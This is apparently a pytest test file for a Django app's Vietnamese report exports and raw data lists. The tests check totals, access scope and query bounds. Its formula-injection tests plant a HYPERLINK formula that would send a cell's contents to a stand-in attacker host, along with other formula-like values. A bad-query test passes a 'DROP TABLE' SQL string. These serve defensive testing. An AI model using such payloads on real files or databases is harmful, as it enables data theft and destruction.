"""Report downloads (XLSX, CSV) and the raw lists: figures equal row-by-row totals, files are
Vietnamese, numbers are numbers, text never runs as a formula, scope and queries are bounded."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext as _
from django.utils.translation import pgettext
from openpyxl import load_workbook

from programs.models import (
    Attendance,
    FundingSource,
    LabourSession,
    Member,
    Unit,
    VillageName,
    WorkOutput,
    WorkType,
)
from programs.reports import cadence, indicators, writers
from programs.reports.figures import CATEGORY_GROUPS, build_report
from programs.reports.periods import parse_period
from programs.reports.scopes import resolve_scope
from tests import factories
from tests.http import consume
from tests.queries import pinned_queries
from tests.test_report_figures import expected_figures

D = datetime.date
TODAY = D(2026, 11, 27)
RAW_CSV = reverse("programs:report-raw-csv")
RAW_XLSX = reverse("programs:report-raw-xlsx")
CONFIRMED_AT = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
PERIODS = [
    {"period": "year", "year": "2026"},
    {"period": "quarter", "month": "2026-02"},
]


# --- Helpers ------------------------------------------------------------------------------


def vi(text, context=None):
    """``text`` as the files print it (Vietnamese once translated, the English source until
    then): tests never depend on the translation itself."""
    with translation.override("vi"):
        return pgettext(context, text) if context else _(text)


def workbook(response):
    return load_workbook(io.BytesIO(consume(response)))


def sheet_table(sheet):
    """(headers, body rows of cells) below the frozen header row."""
    header_row = int(sheet.freeze_panes[1:]) - 1
    rows = list(sheet.iter_rows(min_row=header_row))
    return [cell.value for cell in rows[0]], rows[1:]


def as_decimal(value):
    return Decimal(str(value)) if value is not None else None


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8")[1:])))


def csv_section(rows, title):
    """(headers, rows) of the CSV section titled ``title``, up to the next blank line."""
    start = rows.index([title])
    body = []
    for row in rows[start + 2 :]:
        if not row:
            break
        body.append(row)
    return rows[start + 1], body


def committee_report(dataset, params, **kwargs):
    scope = resolve_scope(dataset["officer"], {"committee": str(dataset["committee"].pk)})
    return build_report(scope, parse_period(params, TODAY), today=TODAY, **kwargs)


def sessions_between(period):
    return LabourSession.objects.filter(
        date__gte=period.start, date__lte=period.end
    ).prefetch_related("attendances", "outputs")


def held_session(world, day, *, cell=None, village=None, **kwargs):
    return factories.session(
        cell=cell or world["cell"],
        village=village or world["village"],
        directive=world["directive"],
        date=day,
        status="held",
        log_status="confirmed",
        log_confirmed_at=CONFIRMED_AT,
        other_village_reason="x",
        **kwargs,
    )


# --- The report as a workbook -------------------------------------------------------------


@pytest.mark.parametrize("params", PERIODS)
def test_workbook_matches_row_by_row_totals(report_dataset, params):
    report = committee_report(report_dataset, params)
    period = report.period
    expected, outputs, by_source, categories, levels = expected_figures(sessions_between(period))
    before, *_rest = expected_figures(sessions_between(period.previous_year()))
    assert expected["held"] and expected["visits"] and outputs and by_source

    book = workbook(writers.report_response(report, "xlsx"))
    titles = [vi(title, "report sheet") for title in ("Summary", "By category", "By level")]
    titles += [
        vi(title, "report sheet")
        for title in (
            "Work done",
            "Funding",
            "Households helped",
            "Villagers' opinions",
            # The dataset's committee has a subordinate committee: its subtotals come first.
            "By subordinate committee",
            "By cell",
            "By village",
        )
    ]
    titles.append(vi("By month", "report sheet"))
    assert book.sheetnames == titles

    # Summary: this period, the same period a year earlier, and the change.
    _headers, body = sheet_table(book[titles[0]])
    summary = {row[0].value: row for row in body}
    with translation.override("vi"):
        labels = {indicator.key: str(indicator.label) for indicator in indicators.INDICATORS}
    for key in ("held", "held_unconfirmed", "planned", "postponed", "cancelled", "visits"):
        row = summary[labels[key]]
        assert [cell.data_type for cell in row[1:]] == ["n", "n", "n"]
        assert (row[1].value, row[2].value) == (expected[key], before[key]), key
        assert row[3].value == expected[key] - before[key]
    assert as_decimal(summary[labels["workdays"]][1].value) == expected["workdays"]
    assert summary[labels["party_member_visits"]][1].value == expected["party"]

    # Person-visits by category and by level.
    _headers, body = sheet_table(book[titles[1]])
    assert [row[1].value for row in body[: len(CATEGORY_GROUPS)]] == [
        categories[key] for key, _cats in CATEGORY_GROUPS
    ]
    total = next(row for row in body if row[0].value == vi("Total"))
    assert total[1].value == expected["visits"]
    assert as_decimal(total[2].value) == expected["workdays"]
    _headers, body = sheet_table(book[titles[2]])
    assert [row[1].value for row in body[: len(Member.Level.values)]] == [
        levels[level] for level in Member.Level.values
    ]

    # Outputs per work type and unit; value by funding source.
    names = dict(WorkType.objects.values_list("pk", "name"))
    with translation.override("vi"):
        units = {code: str(label) for code, label in Unit.choices}
        sources = {code: str(label) for code, label in FundingSource.choices}
    _headers, body = sheet_table(book[titles[3]])
    assert all(row[2].data_type == "n" for row in body)
    assert {(row[0].value, row[1].value): as_decimal(row[2].value) for row in body} == {
        (names[work_type], units[unit]): quantity for (work_type, unit), quantity in outputs.items()
    }
    _headers, body = sheet_table(book[titles[4]])
    assert {row[0].value: row[1].value for row in body if row[0].value != vi("Total")} == {
        sources[code]: value for code, value in by_source.items()
    }
    assert body[-1][1].value == sum(by_source.values())

    # Per cell, village and month: the rows add up to the totals, and every figure is a number.
    for title in titles[7:]:  # after the households and the villagers' opinions
        headers, body = sheet_table(book[title])
        held = headers.index(vi("Held (confirmed)"))
        visits = headers.index(vi("Person-visits"))
        workdays = headers.index(vi("Workdays"))
        rows, total = body[:-1], body[-1]
        assert total[0].value == vi("Total")
        assert all(cell.data_type == "n" for row in body for cell in row[1:])
        assert sum(row[held].value for row in rows) == total[held].value == expected["held"]
        assert sum(row[visits].value for row in rows) == total[visits].value == expected["visits"]
        assert sum(as_decimal(row[workdays].value) for row in rows) == expected["workdays"]


def test_every_sheet_opens_with_title_scope_period_and_a_frozen_bold_header(report_dataset):
    report = committee_report(report_dataset, {"period": "quarter", "month": "2026-02"})
    book = workbook(writers.report_response(report, "xlsx"))
    with translation.override("vi"):
        period_label = report.period.label
        title = _("Report on cadres and party members working with the people")
    # Ten sheets, and the subtotals of the dataset's subordinate committee.
    assert len(book.worksheets) == 11
    for sheet in book.worksheets:
        # Four lines above the table: title, scope, period, the cadence rule in words.
        assert sheet.freeze_panes == "A7", sheet.title
        assert sheet["A1"].value == title
        assert sheet["A2"].value == "Đảng ủy Cơ quan Chính quyền huyện"
        assert sheet["A3"].value == period_label
        assert sheet["B3"].is_date and sheet["B3"].number_format == "DD/MM/YYYY"
        assert sheet["B3"].value.date() == D(2026, 1, 1)
        assert sheet["C3"].value.date() == D(2026, 3, 31)
        assert sheet["A4"].value == cadence.RULE_VI
        assert all(cell.value is None for cell in sheet[5])
        assert all(cell.font.b for cell in sheet[6] if cell.value is not None)
        assert sheet.column_dimensions["A"].width >= 30


def test_files_are_vietnamese_whatever_the_page_language(report_dataset):
    report = committee_report(report_dataset, {"period": "year", "year": "2026"})
    with translation.override("en"):
        response = writers.report_response(report, "xlsx")
        csv_response = writers.report_response(report, "csv")
    book = workbook(response)
    headers, _body = sheet_table(book[vi("By village", "report sheet")])
    assert headers[0] == vi("Village")
    assert vi("Village") in csv_response.content.decode("utf-8")
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="bao-cao-dang-uy-co-quan-chinh-quyen-huyen-2026.xlsx"'
    )
    assert response["Content-Type"] == writers.XLSX_CONTENT_TYPE


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_report_page_hands_its_report_to_the_export(client, report_dataset, fmt):
    client.force_login(report_dataset["officer"])
    response = client.get(
        reverse("programs:reports"), {"period": "quarter", "month": "2026-02", "format": fmt}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="bao-cao-dang-uy-co-quan-chinh-quyen-huyen-2026-q1.{fmt}"'
    )
    assert "no-store" in response["Cache-Control"]
    body = consume(response)
    if fmt == "csv":
        assert csv_rows(body)[1] == ["Đảng ủy Cơ quan Chính quyền huyện"]
    else:
        assert len(load_workbook(io.BytesIO(body)).worksheets) == 11  # with the subtotals


def test_report_export_runs_no_query(report_dataset, django_assert_num_queries):
    """Everything is in the built report: writing it reads nothing more, row by row or not."""
    report = committee_report(report_dataset, {"period": "year", "year": "2026"})
    with django_assert_num_queries(0):
        consume(writers.report_response(report, "xlsx"))
        consume(writers.report_response(report, "csv"))


def test_unknown_format_is_refused(report_dataset):
    report = committee_report(report_dataset, {"period": "year", "year": "2026"})
    with pytest.raises(ValueError):
        writers.report_response(report, "pdf")


# --- The report as CSV --------------------------------------------------------------------


@pytest.mark.parametrize("params", PERIODS)
def test_csv_is_utf8_with_bom_and_its_cell_totals_match(report_dataset, params):
    report = committee_report(report_dataset, params)
    expected, *_rest = expected_figures(sessions_between(report.period))
    response = writers.report_response(report, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="bao-cao-')
    rows = csv_rows(response.content)
    assert rows[1] == ["Đảng ủy Cơ quan Chính quyền huyện"]
    headers, body = csv_section(rows, vi("By cell", "report sheet"))
    held = headers.index(vi("Held (confirmed)"))
    visits = headers.index(vi("Person-visits"))
    workdays = headers.index(vi("Workdays"))
    cells, total = body[:-1], body[-1]
    assert len(cells) == len(report_dataset["cells"])
    assert {row[0] for row in cells} >= {"Chi bộ Văn phòng", "Chi bộ Tư pháp"}
    assert sum(int(row[held]) for row in cells) == int(total[held]) == expected["held"]
    assert sum(int(row[visits]) for row in cells) == int(total[visits]) == expected["visits"]
    # A dot decimal separator: every workday figure parses as a number.
    assert sum(Decimal(row[workdays]) for row in cells) == expected["workdays"]


# --- Formula injection --------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def hostile(world):
    """Names and descriptions a spreadsheet would run as formulas, and a year-on-year fall
    (negative changes) in the numbers."""
    cell, other = world["cell"], world["other_cell"]
    cell.name = HYPERLINK
    cell.save()
    other.name = "@SUM(A1:A9)"
    other.save()
    household = factories.household(village=world["village"], head_name="+1")
    work_type = WorkType.objects.first()
    session = held_session(world, D(2026, 3, 7))
    WorkOutput.objects.create(
        session=session,
        work_type=work_type,
        description="-1",
        quantity=Decimal("2.5"),
        unit="m",
        household=household,
        value_vnd=500_000,
        funding_source="villagers",
    )
    held_session(world, D(2026, 3, 8), cell=other, village=world["other_village"])
    for day in (D(2025, 3, 1), D(2025, 4, 5), D(2025, 5, 3)):
        held_session(world, day)
    return world


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("\x01=1", "'=1"),
        ("Nà Coóc", "Nà Coóc"),
        ("a-1", "a-1"),
        (-1, -1),
        (Decimal("-2.5"), Decimal("-2.5")),
        (None, None),
    ],
)
def test_safe_text(value, expected):
    assert writers.safe_text(value) == expected


def test_report_files_neutralise_formulas_but_keep_negative_numbers(hostile):
    report = committee_report(hostile, {"period": "year", "year": "2026"})
    book = workbook(writers.report_response(report, "xlsx"))
    _headers, body = sheet_table(book[vi("By cell", "report sheet")])
    names = {row[0].value for row in body}
    assert {"'" + HYPERLINK, "'@SUM(A1:A9)"} <= names
    assert all(row[0].data_type == "s" for row in body)
    _headers, body = sheet_table(book[vi("Households helped", "report sheet")])
    assert body[0][0].value == "'+1"
    _headers, body = sheet_table(book[vi("Summary", "report sheet")])
    held = body[0]  # held sessions: 2 this year, 3 the year before
    assert (held[1].value, held[2].value, held[3].value) == (2, 3, -1)
    assert held[3].data_type == "n"

    rows = csv_rows(writers.report_response(report, "csv").content)
    flat = [value for row in rows for value in row]
    assert "'" + HYPERLINK in flat and "'@SUM(A1:A9)" in flat and "'+1" in flat
    assert HYPERLINK not in flat and "+1" not in flat
    _headers, body = csv_section(rows, vi("Summary", "report sheet"))
    assert body[0][1:] == ["2", "3", "-1"]


def test_raw_lists_neutralise_formulas(client, hostile):
    client.force_login(hostile["officer"])
    query = {"period": "year", "year": "2026"}
    rows = csv_rows(consume(client.get(RAW_CSV, {**query, "list": "outputs"})))
    headers, row = rows[0], rows[1]
    assert row[headers.index(vi("Party cell"))] == "'" + HYPERLINK
    assert row[headers.index(vi("Description"))] == "'-1"
    assert row[headers.index(vi("Household"))] == "'+1"
    assert row[headers.index(vi("Quantity"))] == "2.50"

    book = workbook(client.get(RAW_XLSX, query))
    sheet = book.worksheets[2]
    headers = [cell.value for cell in sheet[1]]
    row = sheet[2]
    assert row[headers.index(vi("Party cell"))].value == "'" + HYPERLINK
    assert row[headers.index(vi("Party cell"))].data_type == "s"
    assert row[headers.index(vi("Description"))].value == "'-1"
    assert row[headers.index(vi("Household"))].value == "'+1"
    assert row[headers.index(vi("Quantity"))].data_type == "n"
    cells = {sheet_row[5].value for sheet_row in book.worksheets[0].iter_rows(min_row=2)}
    assert cells == {"'" + HYPERLINK, "'@SUM(A1:A9)"}


# --- Raw lists ----------------------------------------------------------------------------


def _database_counts(period, **session_filter):
    sessions = LabourSession.objects.filter(
        date__gte=period.start, date__lte=period.end, **session_filter
    )
    held = sessions.filter(status="held")
    return {
        "sessions": set(sessions.values_list("id", flat=True)),
        "attendance": Attendance.objects.filter(session__in=held).count(),
        "outputs": WorkOutput.objects.filter(session__in=held).count(),
        "held": set(held.values_list("id", flat=True)),
    }


@pytest.mark.parametrize("params", PERIODS)
def test_raw_csv_lists_every_row_of_the_scope_and_period(client, report_dataset, params):
    dataset = report_dataset
    client.force_login(dataset["officer"])
    query = {**params, "committee": str(dataset["committee"].pk)}
    counts = _database_counts(parse_period(params, TODAY))
    assert counts["attendance"] and counts["outputs"]

    response = client.get(RAW_CSV, query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="buoi-lao-dong-')
    assert "private" in response["Cache-Control"]
    rows = csv_rows(consume(response))
    assert rows[0][:2] == [vi("Session no."), vi("Date")]
    assert {int(row[0]) for row in rows[1:]} == counts["sessions"]
    assert len(rows) - 1 == len(counts["sessions"])
    assert any("Đảng ủy Cơ quan Chính quyền huyện" in row for row in rows)

    for which in ("attendance", "outputs"):
        rows = csv_rows(consume(client.get(RAW_CSV, {**query, "list": which})))
        assert len(rows) - 1 == counts[which], which
        # Held sessions only, whatever the state of their log; the log status is a column.
        assert {int(row[0]) for row in rows[1:]} <= counts["held"]
        log_status = rows[0].index(vi("Log status"))
        with translation.override("vi"):
            allowed = {
                str(LabourSession.LogStatus(code).label) for code in ("confirmed", "submitted")
            }
        assert {row[log_status] for row in rows[1:]} == allowed


@pytest.mark.parametrize("params", PERIODS)
def test_raw_workbook_has_three_lists_with_real_dates_and_numbers(client, report_dataset, params):
    dataset = report_dataset
    client.force_login(dataset["viewer"])
    counts = _database_counts(parse_period(params, TODAY))
    response = client.get(RAW_XLSX, params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="du-lieu-')
    book = workbook(response)
    assert book.sheetnames == [
        vi("Sessions", "report sheet"),
        vi("Participants", "report sheet"),
        vi("Work done", "report sheet"),
    ]
    sessions, attendance, outputs = book.worksheets
    assert sessions.max_row - 1 == len(counts["sessions"])
    assert attendance.max_row - 1 == counts["attendance"]
    assert outputs.max_row - 1 == counts["outputs"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        for row in sheet.iter_rows(min_row=2):
            assert row[0].data_type == "n"
            assert row[1].is_date and row[1].number_format == "DD/MM/YYYY"
    assert {row[0].value for row in sessions.iter_rows(min_row=2)} == counts["sessions"]
    headers = [cell.value for cell in outputs[1]]
    quantity = headers.index(vi("Quantity"))
    assert all(row[quantity].data_type == "n" for row in outputs.iter_rows(min_row=2))
    headers = [cell.value for cell in sessions[1]]
    assert sessions.cell(row=2, column=headers.index(vi("Start time")) + 1).is_date


def test_secretary_lists_only_their_own_cell(client, report_dataset):
    dataset = report_dataset
    client.force_login(dataset["secretary"])
    params = {"period": "year", "year": "2026"}
    counts = _database_counts(parse_period(params, TODAY), cell=dataset["cell"])
    assert counts["sessions"] and counts["attendance"]
    for which in ("sessions", "attendance", "outputs"):
        rows = csv_rows(consume(client.get(RAW_CSV, {**params, "list": which})))
        cell = rows[0].index(vi("Party cell"))
        assert {row[cell] for row in rows[1:]} <= {"Chi bộ Văn phòng"}
        expected = counts[which]
        assert len(rows) - 1 == (len(expected) if isinstance(expected, set) else expected)
    book = workbook(client.get(RAW_XLSX, params))
    assert {row[0].value for row in book.worksheets[0].iter_rows(min_row=2)} == counts["sessions"]
    # Another cell, or the committee above: not theirs.
    for scope in ({"cell": dataset["other_cell"].pk}, {"committee": dataset["committee"].pk}):
        assert client.get(RAW_CSV, {**params, **scope}).status_code == 404
        assert client.get(RAW_XLSX, {**params, **scope}).status_code == 404


def test_villages_are_named_as_on_the_session_date(client, world):
    old_commune = factories.commune(district=world["district"], name="Thổ Bình")
    VillageName.objects.create(
        village=world["village"],
        name="Phiêng Luông Cũ",
        commune=old_commune,
        valid_from=D(2020, 1, 1),
        valid_until=D(2025, 6, 30),
    )
    held_session(world, D(2025, 3, 1))
    held_session(world, D(2026, 3, 7))
    client.force_login(world["officer"])
    rows = csv_rows(
        consume(client.get(RAW_CSV, {"period": "custom", "from": "2025-01", "to": "2026-12"}))
    )
    headers = rows[0]
    village, commune = headers.index(vi("Village")), headers.index(vi("Commune"))
    weekday = headers.index(vi("Weekday"))
    with translation.override("vi"):
        saturday = _("Saturday")
    assert [(row[1], row[village], row[commune], row[weekday]) for row in rows[1:]] == [
        (
            "2025-03-01",
            "thôn Phiêng Luông Cũ",
            "xã Thổ Bình, huyện Lâm Bình, tỉnh Tuyên Quang",
            saturday,
        ),
        (
            "2026-03-07",
            "thôn Phiêng Luông",
            "xã Bình An, huyện Lâm Bình, tỉnh Tuyên Quang",
            saturday,
        ),
    ]


@pytest.mark.parametrize("url", [RAW_CSV, RAW_XLSX])
@pytest.mark.parametrize(
    "params",
    [
        {"period": "week"},
        {"month": "2026-13"},
        {"period": "year", "year": "20x6"},
        {"period": "custom", "from": "2026-05", "to": "2026-01"},
        {"period": "custom", "from": "2010-01", "to": "2026-01"},
        {"period": "custom", "from": "2026-02-30", "to": "2026-03-01"},
        {"committee": "abc"},
        {"committee": "9" * 40},
        {"cell": "-1"},
        {"village": "1; DROP TABLE x"},
        # The text middleware drops the NUL (PostgreSQL refuses it); what is left is refused.
        {"commune": "\x00abc"},
        # str.isdigit() accepts superscripts that int() refuses (was a 500 in resolve_scope).
        {"committee": "²"},
        {"directive": "999999"},
    ],
)
def test_bad_queries_are_400_with_a_message(client, world, url, params):
    client.force_login(world["officer"])
    response = client.get(url, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.strip()


def test_unknown_list_is_400(client, world):
    client.force_login(world["officer"])
    response = client.get(RAW_CSV, {"list": "members"})
    assert response.status_code == 400
    assert b"members" in response.content


@pytest.mark.parametrize("url", [RAW_CSV, RAW_XLSX])
def test_outsider_committee_is_404(client, world, url):
    client.force_login(world["officer"])
    assert client.get(url, {"committee": world["outsider_committee"].pk}).status_code == 404


@pytest.mark.parametrize("url", [RAW_CSV, RAW_XLSX])
def test_anonymous_is_sent_to_sign_in(client, world, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def _grow_to_fifty_cells(world):
    household = factories.household(village=world["village"])
    work_type = WorkType.objects.first()
    for n in range(49):
        cell = factories.cell(committee=world["committee"])
        village = factories.village(commune=world["commune"])
        session = held_session(world, D(2026, 1 + n % 12, 3 + n % 20), cell=cell, village=village)
        member = factories.member(cell=cell)
        row = Attendance(session=session, member=member)
        row.copy_from_member()
        row.save()
        WorkOutput.objects.create(
            session=session,
            work_type=work_type,
            quantity=Decimal("3"),
            unit="m",
            household=household if n % 2 else None,
            value_vnd=100_000,
            funding_source="state",
        )


def _first_session(world):
    session = held_session(world, D(2026, 3, 7))
    member = factories.member(cell=world["cell"])
    row = Attendance(session=session, member=member)
    row.copy_from_member()
    row.save()
    WorkOutput.objects.create(
        session=session, work_type=WorkType.objects.first(), quantity=Decimal("1"), unit="m"
    )


@pytest.mark.parametrize(
    "request_params",
    [
        (RAW_CSV, {"list": "sessions"}, 9),
        (RAW_CSV, {"list": "attendance"}, 9),
        (RAW_CSV, {"list": "outputs"}, 9),
        (RAW_XLSX, {}, 11),
    ],
)
def test_raw_lists_run_the_same_queries_for_one_and_fifty_cells(client, world, request_params):
    url, extra, queries = request_params
    client.force_login(world["officer"])
    params = {"period": "year", "year": "2026", "committee": world["committee"].pk, **extra}
    _first_session(world)
    consume(client.get(url, params))  # warm up
    with pinned_queries(queries, cold=True):
        small = consume(client.get(url, params))
    _grow_to_fifty_cells(world)
    with pinned_queries(queries, cold=True):
        response = client.get(url, params)
        large = consume(response)
    assert len(large) > len(small)
    if url == RAW_CSV:
        assert len(csv_rows(large)) == 51
    else:
        sheets = load_workbook(io.BytesIO(large)).worksheets
        assert [sheet.max_row for sheet in sheets] == [51, 51, 51]
